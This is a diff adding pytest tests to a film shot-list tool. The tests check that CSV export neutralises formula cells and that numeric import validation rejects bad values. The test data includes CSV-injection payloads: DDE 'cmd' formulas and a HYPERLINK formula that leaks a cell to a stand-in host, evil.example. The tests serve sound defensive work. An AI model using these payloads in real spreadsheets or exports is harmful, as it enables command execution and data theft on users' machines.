@@ -14,7 +14,7 @@ from sqlalchemy import select
 
 from setpiece.errors import ConflictError, InvalidInputError, PermissionDeniedError
 from setpiece.model.enums import BibleKind
-from setpiece.model.orm import Event
+from setpiece.model.orm import Event, Shot
 from setpiece.production import bible, records, shots
 from setpiece.production.context import Production, init_production
 from setpiece.production.shotlist import (
@@ -516,3 +516,96 @@ def test_viewers_cannot_import(planned: Production, tmp_path: Path) -> None:
     export_shot_list(planned, tmp_path / "mine.csv")  # reading is allowed
     with pytest.raises(PermissionDeniedError, match="vic is viewer"):
         import_shot_list(planned, path)
+
+
+# Formulas (CSV injection) -------------------------------------------------------------------
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '+HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'tis the night train",  # a quote of its own, which must survive too
+    "''=twice",
+]
+
+
+def test_formulas_are_exported_as_text_and_imported_unchanged(
+    planned: Production, tmp_path: Path
+) -> None:
+    with planned.transaction() as session:  # as typed on the board or with 'shot add'
+        typed = session.scalars(select(Shot).order_by(Shot.id)).all()
+        for shot, text in zip(typed, FORMULAS, strict=True):
+            shot.description = text
+        typed[0].angle, typed[0].camera_move = "=1+1", "@push"
+    before = state(planned)
+    path = tmp_path / "shots.csv"
+    export_shot_list(planned, path)
+    rows = read_rows(path)
+    assert [row["description"] for row in rows] == ["'" + text for text in FORMULAS]
+    assert (rows[0]["angle"], rows[0]["move"]) == ("'=1+1", "'@push")
+    for row in rows:  # nothing a spreadsheet would run
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    report = import_shot_list(planned, path)
+    assert (report.changed, report.created, report.unchanged) == ([], [], 6)
+    assert state(planned) == before
+
+
+@pytest.mark.parametrize("cell", [*FORMULAS, "\tindented", "\rreturn", "-", "'", "plain"])
+def test_every_cell_reads_back_as_it_was_written(tmp_path: Path, cell: str) -> None:
+    from setpiece.production.shotlist._sheet import read_sheet, write_sheet
+
+    path = tmp_path / "cells.csv"
+    row = [cell] * len(COLUMNS)
+    write_sheet(path, [row])
+    records, _ = read_sheet(path)
+    assert records == [list(COLUMNS), row]
+    raw = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))[1]
+    dangerous = cell.startswith(("=", "+", "-", "@", "\t", "\r", "'"))
+    assert raw == [("'" + cell) if dangerous else cell] * len(COLUMNS)
+
+
+def test_a_negative_number_is_still_read_as_that_number(
+    planned: Production, tmp_path: Path
+) -> None:
+    """The export quotes a leading minus; a number the spreadsheet saved is read as typed."""
+    path = tmp_path / "shots.csv"
+    export_shot_list(planned, path)
+    rows = read_rows(path)
+    rows[0]["frames"] = "-96"  # as typed in the spreadsheet
+    rows[1]["frames"] = "'-96"  # as the export would have written it
+    rows[2]["lens_mm"] = "-35"
+    with pytest.raises(ShotListInvalidError) as caught:
+        import_shot_list(planned, write_rows(path, rows))
+    problems = caught.value.problems
+    assert problems[0].startswith("row 2 frames -96: not a frame count"), problems
+    assert problems[1].startswith("row 3 frames -96: not a frame count"), problems
+    assert problems[2].startswith("row 4 lens_mm -35: lens out of range"), problems
+
+
+def test_numbers_that_are_no_numbers_or_out_of_range_are_refused(
+    planned: Production, tmp_path: Path
+) -> None:
+    """NaN, infinity and numbers too big for the database are named, never stored."""
+    path = tmp_path / "shots.csv"
+    export_shot_list(planned, path)
+    rows = read_rows(path)
+    rows[0]["duration"] = "nan"
+    rows[1]["lens_mm"] = "inf"
+    rows[2]["frames"] = "-Infinity"
+    rows[3]["order"] = "1e999999999"  # a billion digits, were it made an int
+    rows[4]["version"] = "2147483648"
+    rows[5]["frames"] = "1e400"
+    before = state(planned)
+    with pytest.raises(ShotListInvalidError) as caught:
+        import_shot_list(planned, write_rows(path, rows))
+    assert caught.value.problems == [
+        "row 2 duration nan: not a duration: write a number such as 4.5",
+        "row 3 lens_mm inf: not a focal length: write a number such as 35",
+        "row 4 frames -Infinity: not a frame count: write a whole number from 1 up, such as 96",
+        "row 5 order 1e999999999: an order out of range: write a whole number from 1 to 2147483647",
+        "row 6 version 2147483648: a version out of range: write a whole number from 1 to "
+        "2147483647",
+        "row 7 frames 1e400: too many frames: at most 86313 (3600 s)",
+    ]
+    assert state(planned) == before
